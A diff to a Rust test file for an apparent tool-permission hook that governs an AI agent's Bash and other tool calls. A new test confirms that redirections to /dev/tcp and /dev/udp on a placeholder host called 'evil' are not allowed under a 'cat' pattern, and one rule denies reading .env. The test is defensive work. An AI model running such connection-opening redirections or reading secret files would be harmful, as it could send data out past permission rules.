@@ -197,7 +197,7 @@ fn rules_for_permissions_are_registered_for_their_tools() {
     for (rules, matcher) in [
         (r#"{allow: ["Bash(git *)"]}"#, json!("Bash")),
         (r#"{deny: ["Read(.env)"]}"#, json!("Read|NotebookRead|Grep|Glob|Bash")),
-        (r#"{allow: ["mcp__github"]}"#, Value::Null),
+        (r#"{allow: ["mcp__github"]}"#, json!("^(mcp__github|mcp__github__.*)$")),
         ("{default: deny}", Value::Null),
     ] {
         let test = Test::stop().config(&format!("permissionRequest: {rules}\n"));
@@ -294,4 +294,17 @@ fn a_request_whose_input_cannot_be_read_is_left_to_the_user_where_a_rule_compare
         &request("permissionRequest: {default: allow, deny: ['WebFetch(domain:x.org)']}", "Bash", json!({}))
             .run(),
     );
+}
+
+#[test]
+fn a_redirection_that_opens_a_connection_is_not_allowed_by_a_pattern_for_its_command() {
+    let config = "permissionRequest: {allow: ['Bash(cat *)', 'Bash(cat)', 'Bash(echo *)']}";
+    for command in
+        ["cat < /dev/tcp/evil/80", "{ cat; } < /dev/udp/evil/80", "cat /dev/null <>/dev/tcp/evil/80"]
+    {
+        let answer = bash(config, command).run();
+        assert_eq!((answer.code, &*answer.stdout), (Some(0), ""), "{command}");
+    }
+    allowed(&bash(config, "echo x > /dev/stderr").run());
+    allowed(&bash(config, "cat < README.md").run());
 }
